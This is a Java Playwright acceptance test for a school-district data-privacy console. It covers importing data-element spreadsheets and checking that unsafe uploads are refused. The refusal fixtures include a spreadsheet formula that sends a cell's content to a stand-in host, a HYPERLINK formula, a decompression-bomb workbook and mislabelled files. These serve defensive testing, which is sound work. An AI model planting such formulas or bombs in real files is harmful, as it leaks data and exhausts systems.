package org.plainview.acceptance;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FileChooser;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.FilePayload;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.plainview.local.LocalPlatform;
import org.plainview.record.Disclosure;
import org.plainview.record.DistrictRecord;
import org.plainview.record.FerpaException;
import org.plainview.record.Justification;
import org.plainview.record.Key;
import org.plainview.server.inventory.WorkingRecord;
import org.plainview.server.tenancy.DistrictScope;
import org.plainview.server.tenancy.Districts;

/** A steward brings the spreadsheet that the district has. */
@ExtendWith(Platform.class)
class ImportTest {
    private static final String DISTRICT = "cedar-bluff";
    private static final String LIST = """
            Data element,Definition,Category,CEDS ID
            Ability group,Whether a class is grouped by what students can do.,enrollment,000328
            Academic award date,The day on which an award was conferred.,transcript,000001
            """;
    private static final String STUDENTS = """
            Student ID,First Name,Last Name,Birthdate,Grade
            100233,Maria,Lopez,2014-03-02,5
            100234,James,Miller,2014-07-19,5
            100235,Aisha,Khan,2013-11-30,5
            """;
    private static final Pattern PUT_IN = Pattern.compile("Put \\d+ items? into the record");
    private static final int MEGABYTE = 1024 * 1024;

    @Test
    void aListIsMappedPreviewedPutInAndThenChangesNothing(LocalPlatform platform, Browser browser) {
        try (var steward = steward(platform, browser)) {
            choose(steward, Sheets.csv("inventory.csv", LIST));

            assertThat(steward.page().locator("#mapping")).isVisible();
            assertThat(steward.page().locator("#preview")).isVisible();
            assertThat(steward.page().getByText("Ability group").first()).isVisible();
            steward.screenshot("console-import");
            steward.assertAccessible();
            steward.button("Put 2 items into the record").click();
            assertThat(steward.page()
                            .getByText("inventory.csv is in the record")
                            .first())
                    .isVisible();

            assertChangesNothing(platform, steward, Sheets.csv("inventory.csv", LIST));
        }
    }

    @Test
    void whoLeavesAnImportComesBackToItLater(LocalPlatform platform, Browser browser) {
        try (var steward = steward(platform, browser)) {
            choose(steward, Sheets.csv("left.csv", "Data element,Description\nLocker color,What it is painted\n"));
            assertThat(steward.page().locator("#preview")).isVisible();
            steward.open("/console/" + DISTRICT + "/import");

            assertThat(steward.heading("Imports that wait")).isVisible();
            assertThat(steward.page().getByText("Ready to apply").first()).isVisible();
            steward.screenshot("console-imports-wait");
            steward.assertAccessible();
            steward.link("left.csv").click();
            steward.button("Put 1 item into the record").click();
            assertThat(steward.page().getByText("left.csv is in the record").first())
                    .isVisible();

            steward.open("/console/" + DISTRICT + "/import");
            assertThat(steward.page().locator("#templates")).isVisible();
            assertThat(steward.link("left.csv")).hasCount(0);
        }
    }

    @Test
    void aWorkbookOfOneRowAnElementIsPutInAsTheStewardMapsIt(LocalPlatform platform, Browser browser) {
        try (var steward = steward(platform, browser)) {
            choose(steward, Sheets.catalogue("ceds.xlsx"));

            assertThat(field(steward, "ElementName")).hasValue("name");
            assertThat(field(steward, "Definition")).hasValue("description");
            assertThat(field(steward, "GlobalID")).hasValue("cedsId");
            // Parents do not read the words of the catalogue: the steward will write her own.
            field(steward, "Definition").selectOption("");
            assertThat(steward.page().getByRole(AriaRole.BUTTON, named(PUT_IN))).isDisabled();
            steward.button("Run again with this mapping").click();
            steward.page().getByRole(AriaRole.BUTTON, named(PUT_IN)).click();
            assertThat(steward.page().getByText("ceds.xlsx is in the record").first())
                    .isVisible();

            var element = record(platform)
                    .elements()
                    .find(Key.of("ability-grouping-status"))
                    .orElseThrow();
            assertThat(element.cedsId()).isEqualTo("000328");
            assertThat(element.description()).isNull();
        }
    }

    @Test
    void anotherSheetOfTheWorkbookIsChosenByItsName(LocalPlatform platform, Browser browser) {
        try (var steward = steward(platform, browser)) {
            choose(steward, Sheets.threeSheets("library.xlsx"));

            var sheet = steward.page().getByLabel("Sheet", new Page.GetByLabelOptions().setExact(true));
            assertThat(sheet).hasValue("Facts");
            assertThat(sheet.locator("option")).hasText(new String[] {"Read me", "Facts", "Systems"});
            sheet.selectOption("Systems");
            assertThat(field(steward, "System")).hasValue("name");
            steward.assertAccessible();
            steward.button("Put 1 item into the record").click();
            assertThat(steward.page().getByText("library.xlsx is in the record").first())
                    .isVisible();

            assertThat(record(platform).systems().find(Key.of("shelfmark"))).isPresent();
            assertThat(record(platform).elements().find(Key.of("library-card-number")))
                    .isEmpty();
        }
    }

    @Test
    void aMetadataDictionaryBecomesRecipientsUsesAndElementsAndThenChangesNothing(
            LocalPlatform platform, Browser browser) {
        try (var steward = steward(platform, browser)) {
            choose(steward, Sheets.metadataDictionary("metadata-dictionary.xlsx"));

            assertThat(steward.page().getByText("one column per element").first())
                    .isVisible();
            assertThat(field(steward, "DATA RECIPIENT")).hasValue("recipient.name");
            assertThat(field(steward, "Username")).hasValue("element");
            assertThat(steward.page().getByText("STUDENT DATA SHARED/COLLECTED").first())
                    .isVisible();
            steward.screenshot("console-import-wide");
            steward.assertAccessible();
            // Two marked elements that the record lacks, one recipient, three uses; a heading among the rows is none.
            steward.button("Put 6 items into the record").click();
            assertThat(steward.page()
                            .getByText("metadata-dictionary.xlsx is in the record")
                            .first())
                    .isVisible();

            var record = record(platform);
            var taught = use(record, "quillfeather-math", "Teaches fractions");
            assertThat(taught.population()).isEqualTo("Grades 3-5");
            assertThat(taught.justifications()).containsExactly(Justification.LOCAL_DECISION);
            assertThat(taught.ferpaExceptions()).containsExactly(FerpaException.SCHOOL_OFFICIAL);
            // The record of the district knows "Grade level" already.
            assertThat(taught.elements())
                    .containsExactlyInAnyOrder(Key.of("username"), Key.of("grade-level"), Key.of("assignment-scores"));
            assertThat(use(record, "quillfeather-math", "Shows parents the progress")
                            .elements())
                    .containsExactlyInAnyOrder(Key.of("username"), Key.of("in-app-performance"));
            assertThat(use(record, "mathwren", "Placement test").extra())
                    .containsEntry("import.mark.username", "s")
                    .doesNotContainKey("import.mark.grade-level");
            steward.open("/console/" + DISTRICT + "/record/recipients");
            assertThat(steward.page().getByText("Quillfeather Math").first()).isVisible();

            assertChangesNothing(platform, steward, Sheets.metadataDictionary("metadata-dictionary.xlsx"));
        }
    }

    /** @param place what is said of a place in the file, beside the reason */
    private record Refused(FilePayload file, String reason, String place) {}

    private static List<Refused> refused() {
        var big = new byte[26 * MEGABYTE];
        Arrays.fill(big, (byte) 'a');
        return List.of(
                new Refused(
                        Sheets.csv("class-list.csv", STUDENTS),
                        "This file looks like a list of students",
                        "Column D holds birth dates."),
                new Refused(
                        Sheets.workbook("dictionary.xlsx", "%PDF-1.7 …".getBytes(StandardCharsets.UTF_8)),
                        "This file is not what its name says",
                        "The content is a PDF document."),
                new Refused(
                        Sheets.csv("register.csv", "<html><table><tr><td>Lopez</td></tr></table></html>"),
                        "This file is not what its name says",
                        "The content is a web page."),
                new Refused(
                        Sheets.bomb("dictionary.xlsx"),
                        "This workbook unpacks to far more than a workbook holds",
                        "Files built like this are made to exhaust a computer"),
                new Refused(Sheets.csv("huge.csv", big), "too large", "A file may have up to 25 MB."),
                new Refused(
                        Sheets.csv(
                                "links.csv",
                                "Data element,Definition\nBus card,=WEBSERVICE(\"https://a.example/\"&A1)\n"),
                        "A formula in this file reaches outside",
                        "The formula in cell B2"),
                new Refused(
                        Sheets.workbook("links.xlsx", sheet -> {
                            sheet.value(0, 0, "Data element");
                            sheet.value(0, 1, "Definition");
                            sheet.value(1, 0, "Bus card");
                            sheet.formula(1, 1, "HYPERLINK(\"https://a.example/\",\"more\")");
                        }),
                        "A formula in this file reaches outside",
                        "The formula in cell B2"));
    }

    @Test
    void whatShouldNotBeReadIsRefusedWithTheReasonAndWithoutATrace(LocalPlatform platform, Browser browser)
            throws Exception {
        try (var steward = steward(platform, browser)) {
            var before = traces(platform);
            var copiesBefore = copies();
            for (var refused : refused()) {
                choose(steward, refused.file());

                var notice = steward.page().getByRole(AriaRole.ALERT);
                assertThat(notice).containsText(refused.reason());
                assertThat(notice).containsText(refused.place());
                assertThat(notice).containsText("Nothing of the file was kept.");
                assertThat(traces(platform)).as(refused.file().name).isEqualTo(before);
                steward.assertAccessible();
            }
            steward.screenshot("console-import-refused");
            assertThat(Platform.uploads()).isEmptyDirectory();
            // Another server on this machine may be reading a file of its own just now.
            Eventually.holds("no copy of a refused file is left", () -> copiesBefore.containsAll(copies()));
        }
    }

    private static void assertChangesNothing(LocalPlatform platform, Visitor steward, FilePayload file) {
        long revision = revision(platform);

        choose(steward, file);

        assertThat(steward.page().getByText("The record already says all of this. There is nothing to put in."))
                .isVisible();
        assertThat(steward.page().locator("[data-name=adds] dd")).hasText("0");
        assertThat(steward.page().locator("[data-name=changes] dd")).hasText("0");
        assertThat(steward.button("Put into the record")).isDisabled();
        assertThat(revision(platform)).isEqualTo(revision);
    }

    private static Visitor steward(LocalPlatform platform, Browser browser) {
        var steward = browser.desktop();
        steward.signIn(Accounts.of(platform, DISTRICT, "steward"));
        return steward;
    }

    private static void choose(Visitor steward, FilePayload file) {
        steward.open("/console/" + DISTRICT + "/import");
        var chooser = steward.page()
                .waitForFileChooser(() -> steward.button("Choose a file").click());
        // A large file is a minute on its way into a browser whose machine has other work.
        chooser.setFiles(file, new FileChooser.SetFilesOptions().setTimeout(60_000));
    }

    /** What a column goes into. */
    private static Locator field(Visitor steward, String heading) {
        return steward.page()
                .getByLabel("Column " + heading + " goes into", new Page.GetByLabelOptions().setExact(true));
    }

    private static Page.GetByRoleOptions named(Pattern name) {
        return new Page.GetByRoleOptions().setName(name);
    }

    private static Disclosure use(DistrictRecord record, String recipient, String use) {
        return record.disclosures().stream()
                .filter(each -> each.recipient().equals(Key.of(recipient)) && use.equals(each.use()))
                .findFirst()
                .orElseThrow();
    }

    private static DistrictRecord record(LocalPlatform platform) {
        return DistrictScope.call(
                platform.bean(Districts.class).bySlug(DISTRICT).orElseThrow().id(),
                () -> platform.bean(WorkingRecord.class).load());
    }

    private static long revision(LocalPlatform platform) {
        return DistrictScope.call(
                platform.bean(Districts.class).bySlug(DISTRICT).orElseThrow().id(),
                () -> platform.bean(WorkingRecord.class).revision());
    }

    /** Where the server lays a file to look at it. */
    private static Set<Path> copies() throws IOException {
        try (var files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return files.filter(file -> file.getFileName().toString().startsWith("plainview-import-"))
                    .collect(Collectors.toSet());
        }
    }

    /** How much stands where an import could leave something, of all districts together. */
    private static String traces(LocalPlatform platform) throws SQLException {
        try (var connection = platform.database().asSuperuser();
                var statement = connection.createStatement();
                var row = statement.executeQuery("""
                        SELECT (SELECT count(*) FROM staged_import), (SELECT count(*) FROM staged_import_rows),
                               (SELECT count(*) FROM record_item), (SELECT count(*) FROM change)
                        """)) {
            row.next();
            return row.getLong(1) + " imports, " + row.getLong(2) + " chunks of rows, " + row.getLong(3) + " items, "
                    + row.getLong(4) + " changes";
        }
    }
}
